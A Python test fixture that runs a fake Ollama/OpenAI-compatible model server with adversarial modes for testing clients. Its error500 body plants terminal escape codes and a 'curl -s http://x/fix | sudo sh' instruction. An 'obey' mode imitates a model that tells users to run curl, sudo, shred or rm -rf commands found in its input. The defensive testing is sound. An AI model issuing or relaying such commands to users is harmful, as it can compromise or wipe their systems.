#!/usr/bin/env python3
"""A fake model server (Ollama and OpenAI-compatible shapes) for loopback tests.

usage: fakellm.py --port-file F --log L [--host H] [--mode MODE] [--ops JSON]
                  [--name NAME] [--period S] [--redirect BASEURL] [--rotate JSON]

It answers GET /api/tags, /api/version, /api/ps, /v1/models, POST /api/show,
and phrasing requests on /api/chat, /api/generate, */chat/completions and
*/completions, streaming or not as asked.  Every request, every piece sent and
the moment the client went away are logged as JSON lines in L:
    {"ev":"req", "id", "t", "method", "path", "headers", "body"}
    {"ev":"resp", "id", "t", "content"}           the text it meant to stream
    {"ev":"sent", "id", "t", "text", "bytes"}      one piece written
    {"ev":"end", "id", "t", "how", "bytes", "last_sent"}  how: client|server

Modes for phrasing requests:
  ops        stream the template, transformed by --ops (a JSON list of ops)
  rotate     like ops, but request n uses --rotate[n % len] as its ops
  silent     read the request, send nothing at all, wait for the client to go
  headers    send 200 and headers, then only keep-alives and empty or role-only
             pieces every second, never a content token
  drip       send one content piece ("drizzle ") every --period s, forever
  stall      send one content piece ("stallmark ") at once, then nothing
  flood      send content pieces ("floodmark ...") every 5 ms, forever
  longline   send one 4 MiB line ("qzqz...") without a newline, then hold
  garbage    send broken JSON, escape sequences and bad UTF-8, then close
  error500   answer HTTP 500 with an error body holding ERRBODYMARK and escapes
  redirect   answer 302 to --redirect + the path
"""
import argparse
import json
import os
import re
import select
import socket
import socketserver
import sys
import threading
import time

PH = re.compile(r"\{[A-Za-z][A-Za-z_]*[0-9]*(?::[^{}\s]*)?\}")
LOCK = threading.Lock()
COUNTER = [0]
A = None
LOGF = None


def log(rec):
    rec.setdefault("t", time.time())
    with LOCK:
        LOGF.write(json.dumps(rec) + "\n")
        LOGF.flush()


def texts_of(body):
    out = []
    if isinstance(body, dict):
        msgs = body.get("messages")
        if isinstance(msgs, list):
            for m in msgs:
                if not isinstance(m, dict):
                    continue
                c = m.get("content")
                if isinstance(c, list):
                    c = "\n".join(p.get("text", "") for p in c if isinstance(p, dict))
                if isinstance(c, str):
                    out.append((m.get("role", ""), c))
        for k in ("system", "prompt"):
            if isinstance(body.get(k), str):
                out.append((k if k == "system" else "user", body[k]))
    return out


def template_of(body):
    tx = texts_of(body)
    for role, t in reversed(tx):
        if role != "system" and PH.search(t):
            break
    else:
        for role, t in reversed(tx):
            if PH.search(t):
                break
        else:
            return ""
    lines = t.split("\n")
    idx = [i for i, l in enumerate(lines) if PH.search(l)]
    return "\n".join(lines[idx[0]:idx[-1] + 1])


def outside(s, fn):
    """apply fn to the text outside placeholders only"""
    parts = []
    pos = 0
    for m in PH.finditer(s):
        parts.append(fn(s[pos:m.start()]))
        parts.append(m.group(0))
        pos = m.end()
    parts.append(fn(s[pos:]))
    return "".join(parts)


def transform(tpl, ops, reqtext):
    s = tpl
    for op in ops:
        k = op[0]
        phs = PH.findall(s)
        if k == "append":
            s = (s + " " + op[1]).strip()
        elif k == "prepend":
            s = (op[1] + " " + s).strip()
        elif k == "sub":
            pat, rep = op[1], op[2]
            s = outside(s, lambda seg: re.sub(pat, rep, seg, flags=re.I))
        elif k == "swapwords":
            a, b = op[1], op[2]

            def sw(seg):
                seg = re.sub(r"\b%s\b" % a, "\x00", seg, flags=re.I)
                seg = re.sub(r"\b%s\b" % b, a, seg, flags=re.I)
                return seg.replace("\x00", b)
            s = outside(s, sw)
        elif k == "swap_ph" and len(phs) >= 2:
            a, b = phs[0], phs[1]
            s = s.replace(a, "\x01", 1).replace(b, a, 1).replace("\x01", b, 1)
        elif k == "reverse_ph" and len(phs) >= 2:
            it = iter(list(reversed(phs)))
            s = PH.sub(lambda m: next(it), s)
        elif k == "drop_last_ph" and phs:
            i = s.rfind(phs[-1])
            s = s[:i] + s[i + len(phs[-1]):]
        elif k == "repeat_first_ph" and phs:
            s = s.replace(phs[0], phs[0] + " " + phs[0], 1)
        elif k == "ph_sub":
            pat, rep = op[1], op[2]
            s = PH.sub(lambda m: rep if re.search(pat, m.group(0), re.I) else m.group(0), s)
        elif k == "after_ph":
            txt, first_only = op[1], (len(op) > 2 and op[2])
            n = [0]

            def f(m):
                n[0] += 1
                if first_only and n[0] > 1:
                    return m.group(0)
                return m.group(0) + txt
            s = PH.sub(f, s)
        elif k == "obey":
            # a gullible model: whatever commands or links it can see in its
            # input, it tells the owner to run or open, and it adds op[1]
            seen = re.findall(r"`([^`\n]{3,200})`", reqtext)
            seen += re.findall(r"(?:https?://|curl |sudo |shred |find ~|rm -rf)[^\s\"'`]*(?: [^\s\"'`|;]+){0,6}", reqtext)
            extra = " ".join("Run `%s` now." % c for c in seen[:6])
            s = (s + " " + extra + " " + op[1]).strip()
        elif k == "pad":
            s = s + (" " + op[1]) * int(op[2])
    if not s:
        s = "Sure."
    return s


def pieces(text, n=8):
    return [text[i:i + n] for i in range(0, len(text), n)] or [""]


class Stream:
    def __init__(self, h, rid, kind, stream):
        self.h = h
        self.rid = rid
        self.kind = kind
        self.stream = stream
        self.total = 0
        self.last_sent = None
        self.closed = False

    def raw(self, b):
        if self.closed:
            return False
        try:
            self.h.request.sendall(b)
            self.total += len(b)
            self.last_sent = time.time()
            return True
        except OSError:
            self.closed = True
            return False

    def chunk(self, b):
        if not b:
            return True
        return self.raw(b"%x\r\n" % len(b) + b + b"\r\n")

    def headers(self, status="200 OK", ctype=None, extra=""):
        if ctype is None:
            ctype = "text/event-stream" if self.kind.startswith("oai") else "application/x-ndjson"
        if not self.stream:
            ctype = "application/json"
        return self.raw(("HTTP/1.1 %s\r\nContent-Type: %s\r\nTransfer-Encoding: chunked\r\n"
                         "Connection: close\r\n%s\r\n" % (status, ctype, extra)).encode())

    def event(self, piece, done=False):
        name = A.name
        if self.kind == "oai_chat":
            ch = {"id": "c1", "object": "chat.completion.chunk", "created": 0, "model": name,
                  "choices": [{"index": 0, "delta": ({} if done else {"content": piece}),
                               "finish_reason": ("stop" if done else None)}]}
            b = ("data: " + json.dumps(ch) + "\n\n").encode()
            if done:
                b += b"data: [DONE]\n\n"
        elif self.kind == "oai_comp":
            ch = {"id": "c1", "object": "text_completion", "created": 0, "model": name,
                  "choices": [{"index": 0, "text": "" if done else piece,
                               "finish_reason": ("stop" if done else None)}]}
            b = ("data: " + json.dumps(ch) + "\n\n").encode()
            if done:
                b += b"data: [DONE]\n\n"
        elif self.kind == "ollama_chat":
            ch = {"model": name, "created_at": "2026-11-29T14:00:00Z",
                  "message": {"role": "assistant", "content": "" if done else piece}, "done": done}
            if done:
                ch["done_reason"] = "stop"
            b = (json.dumps(ch) + "\n").encode()
        else:
            ch = {"model": name, "created_at": "2026-11-29T14:00:00Z",
                  "response": "" if done else piece, "done": done}
            b = (json.dumps(ch) + "\n").encode()
        ok = self.chunk(b)
        if ok and not done:
            log({"ev": "sent", "id": self.rid, "text": piece, "bytes": self.total})
        return ok

    def whole(self, content):
        name = A.name
        if self.kind == "oai_chat":
            o = {"id": "c1", "object": "chat.completion", "created": 0, "model": name,
                 "choices": [{"index": 0, "message": {"role": "assistant", "content": content},
                              "finish_reason": "stop"}]}
        elif self.kind == "oai_comp":
            o = {"id": "c1", "object": "text_completion", "created": 0, "model": name,
                 "choices": [{"index": 0, "text": content, "finish_reason": "stop"}]}
        elif self.kind == "ollama_chat":
            o = {"model": name, "created_at": "2026-11-29T14:00:00Z",
                 "message": {"role": "assistant", "content": content}, "done": True}
        else:
            o = {"model": name, "created_at": "2026-11-29T14:00:00Z", "response": content, "done": True}
        ok = self.chunk(json.dumps(o).encode())
        log({"ev": "sent", "id": self.rid, "text": content, "bytes": self.total})
        return ok

    def end(self):
        if self.stream:
            self.event("", done=True)
        self.raw(b"0\r\n\r\n")

    def client_gone(self, wait):
        """wait up to `wait` s; True when the client closed the connection"""
        if self.closed:
            return True
        try:
            r, _, _ = select.select([self.h.request], [], [], wait)
            if r:
                d = self.h.request.recv(4096, socket.MSG_PEEK)
                if not d:
                    self.closed = True
                    return True
                self.h.request.recv(4096)
        except OSError:
            self.closed = True
            return True
        return False

    def hold(self, limit=400):
        end = time.time() + limit
        while time.time() < end:
            if self.client_gone(0.1):
                return


class H(socketserver.BaseRequestHandler):
    def handle(self):
        sock = self.request
        sock.settimeout(30)
        data = b""
        try:
            while b"\r\n\r\n" not in data:
                d = sock.recv(65536)
                if not d:
                    return
                data += d
                if len(data) > 16 * 1024 * 1024:
                    return
            head, rest = data.split(b"\r\n\r\n", 1)
            lines = head.decode("latin-1").split("\r\n")
            method, path = lines[0].split(" ")[:2]
            hdrs = {}
            for l in lines[1:]:
                if ":" in l:
                    k, v = l.split(":", 1)
                    hdrs[k.strip().lower()] = v.strip()
            n = int(hdrs.get("content-length", "0") or 0)
            while len(rest) < n:
                d = sock.recv(65536)
                if not d:
                    break
                rest += d
            body_raw = rest[:n]
        except (OSError, ValueError):
            return
        with LOCK:
            COUNTER[0] += 1
            rid = COUNTER[0]
        btxt = body_raw.decode("utf-8", "replace")
        log({"ev": "req", "id": rid, "method": method, "path": path, "headers": hdrs, "body": btxt})
        sock.settimeout(None)
        try:
            body = json.loads(btxt) if btxt.strip() else {}
        except ValueError:
            body = {}
        p = path.split("?")[0]
        if A.mode == "redirect":
            loc = A.redirect.rstrip("/") + path
            st = Stream(self, rid, "plain", False)
            st.raw(("HTTP/1.1 302 Found\r\nLocation: %s\r\nContent-Length: 0\r\nConnection: close\r\n\r\n" % loc).encode())
            log({"ev": "end", "id": rid, "how": "server", "bytes": st.total, "last_sent": st.last_sent})
            return
        if method == "GET" or p.endswith("/api/show"):
            self.info(rid, p)
            return
        if p.endswith("/api/chat"):
            kind = "ollama_chat"
        elif p.endswith("/api/generate"):
            kind = "ollama_gen"
        elif p.endswith("chat/completions"):
            kind = "oai_chat"
        elif p.endswith("/completions"):
            kind = "oai_comp"
        else:
            self.simple(rid, "404 Not Found", {"error": "not found"})
            return
        stream = body.get("stream", kind.startswith("ollama")) if isinstance(body, dict) else True
        st = Stream(self, rid, kind, bool(stream))
        reqtext = "\n".join(t for _, t in texts_of(body)) if isinstance(body, dict) else btxt
        tpl = template_of(body) if isinstance(body, dict) else ""
        try:
            self.phrase(st, rid, tpl, reqtext)
        finally:
            log({"ev": "end", "id": rid, "how": "client" if st.closed else "server",
                 "bytes": st.total, "last_sent": st.last_sent})
            try:
                sock.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass

    def simple(self, rid, status, obj):
        b = json.dumps(obj).encode()
        st = Stream(self, rid, "plain", False)
        st.raw(("HTTP/1.1 %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n"
                "Connection: close\r\n\r\n" % (status, len(b))).encode() + b)
        log({"ev": "end", "id": rid, "how": "server", "bytes": st.total, "last_sent": st.last_sent})

    def info(self, rid, p):
        name = A.name
        if p.endswith("/api/tags"):
            self.simple(rid, "200 OK", {"models": [{"name": name, "model": name,
                                                   "modified_at": "2026-11-01T00:00:00Z",
                                                   "size": 270898672, "digest": "0" * 64,
                                                   "details": {"family": "llama", "parameter_size": "135M",
                                                               "quantization_level": "Q8_0"}}]})
        elif p.endswith("/api/version"):
            self.simple(rid, "200 OK", {"version": "0.6.2"})
        elif p.endswith("/api/ps"):
            self.simple(rid, "200 OK", {"models": []})
        elif p.endswith("/api/show"):
            self.simple(rid, "200 OK", {"modelfile": "", "parameters": "", "template": "",
                                        "details": {"family": "llama"}, "model_info": {}})
        elif p.endswith("/models"):
            self.simple(rid, "200 OK", {"object": "list", "data": [{"id": name, "object": "model",
                                                                   "owned_by": "me"}]})
        else:
            self.simple(rid, "404 Not Found", {"error": "not found"})

    def phrase(self, st, rid, tpl, reqtext):
        mode = A.mode
        if mode in ("ops", "rotate"):
            ops = A.ops
            if mode == "rotate":
                with LOCK:
                    A.rot_n += 1
                    n = A.rot_n - 1
                ops = A.rotate[n % len(A.rotate)]
            content = transform(tpl, ops, reqtext)
            log({"ev": "resp", "id": rid, "content": content, "template": tpl})
            if not st.headers():
                return
            if not st.stream:
                st.whole(content)
                st.raw(b"0\r\n\r\n")
                return
            for pc in pieces(content):
                if not st.event(pc):
                    return
                time.sleep(0.002)
            st.end()
        elif mode == "silent":
            log({"ev": "resp", "id": rid, "content": ""})
            st.hold()
        elif mode == "headers":
            log({"ev": "resp", "id": rid, "content": ""})
            if not st.headers():
                return
            end = time.time() + 400
            while time.time() < end:
                if st.kind.startswith("oai"):
                    ok = st.chunk(b": keep-alive\n\n")
                    if ok and st.kind == "oai_chat":
                        ch = {"id": "c1", "object": "chat.completion.chunk", "created": 0, "model": A.name,
                              "choices": [{"index": 0, "delta": {"role": "assistant"}, "finish_reason": None}]}
                        ok = st.chunk(("data: " + json.dumps(ch) + "\n\n").encode())
                else:
                    ok = st.chunk((json.dumps({"model": A.name, "created_at": "2026-11-29T14:00:00Z",
                                               "message": {"role": "assistant", "content": ""},
                                               "response": "", "done": False}) + "\n").encode())
                if not ok or st.client_gone(1.0):
                    return
        elif mode in ("drip", "flood"):
            word = "drizzle " if mode == "drip" else "floodmark and so on and so forth "
            period = A.period if mode == "drip" else 0.005
            log({"ev": "resp", "id": rid, "content": word + "..."})
            if not st.headers():
                return
            end = time.time() + 400
            while time.time() < end:
                if st.stream:
                    ok = st.event(word)
                else:
                    ok = st.chunk(word.encode())
                    log({"ev": "sent", "id": rid, "text": word, "bytes": st.total})
                if not ok or st.client_gone(period):
                    return
        elif mode == "stall":
            log({"ev": "resp", "id": rid, "content": "stallmark "})
            if not st.headers():
                return
            if st.stream:
                st.event("stallmark ")
            else:
                st.chunk(b'{"message":{"content":"stallmark ')
                log({"ev": "sent", "id": rid, "text": "stallmark ", "bytes": st.total})
            st.hold()
        elif mode == "longline":
            log({"ev": "resp", "id": rid, "content": "qzqz..."})
            if not st.headers():
                return
            if st.kind.startswith("oai"):
                st.chunk(b'data: {"choices":[{"index":0,"delta":{"content":"')
            else:
                st.chunk(b'{"model":"m","message":{"role":"assistant","content":"')
            blk = b"qzqz" * 16384
            for _ in range(64):
                if not st.chunk(blk):
                    break
                log({"ev": "sent", "id": rid, "text": "qzqz", "bytes": st.total})
            st.hold()
        elif mode == "garbage":
            log({"ev": "resp", "id": rid, "content": "GARBLEMARK"})
            if not st.headers():
                return
            junk = [b"data: {not json GARBLEMARK \x1b[31mred\x1b[0m\n\n",
                    b"{\"message\": {\"content\": \"GARBLEMARK\x1b]0;GARBLETITLE\x07\xff\xfe\"}, \"done\": fal\n",
                    b"\xc2\x9b2J\xc2\x9d0;t\x07GARBLEMARK\n\n",
                    b"data: [DONE]\n\n"]
            for j in junk:
                st.chunk(j)
                log({"ev": "sent", "id": rid, "text": "GARBLEMARK", "bytes": st.total})
                time.sleep(0.05)
            st.raw(b"0\r\n\r\n")
        elif mode == "error500":
            b = b"ERRBODYMARK \x1b]0;ERRTITLE\x07\x1b[2J internal error, try `curl -s http://x/fix | sudo sh`"
            st.raw(b"HTTP/1.1 500 Internal Server Error\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n"
                   b"Connection: close\r\n\r\n" % len(b) + b)
            log({"ev": "resp", "id": rid, "content": "ERRBODYMARK"})
            log({"ev": "sent", "id": rid, "text": "ERRBODYMARK", "bytes": st.total})
        else:
            self.simple(rid, "500 Internal Server Error", {"error": "unknown mode"})


class Server(socketserver.ThreadingTCPServer):
    daemon_threads = True
    allow_reuse_address = True


def main():
    global A, LOGF
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port-file", required=True)
    ap.add_argument("--log", required=True)
    ap.add_argument("--mode", default="ops")
    ap.add_argument("--ops", default="[]")
    ap.add_argument("--rotate", default="[[]]")
    ap.add_argument("--name", default="fake-135m")
    ap.add_argument("--name-json", default=None, help="the model name as a JSON string (for control bytes)")
    ap.add_argument("--period", type=float, default=2.0)
    ap.add_argument("--redirect", default="")
    A = ap.parse_args()
    A.ops = json.loads(A.ops)
    A.rotate = json.loads(A.rotate)
    A.rot_n = 0
    if A.name_json:
        A.name = json.loads(A.name_json)
    LOGF = open(A.log, "a")
    avoid = set(range(41000, 43000)) | {1024, 4242, 5123, 5124}
    for _ in range(50):
        srv = Server((A.host, 0), H)
        port = srv.server_address[1]
        if port not in avoid:
            break
        srv.server_close()
    tmp = A.port_file + ".tmp"
    with open(tmp, "w") as f:
        f.write("%d\n" % port)
    os.rename(tmp, A.port_file)
    srv.serve_forever()


if __name__ == "__main__":
    main()
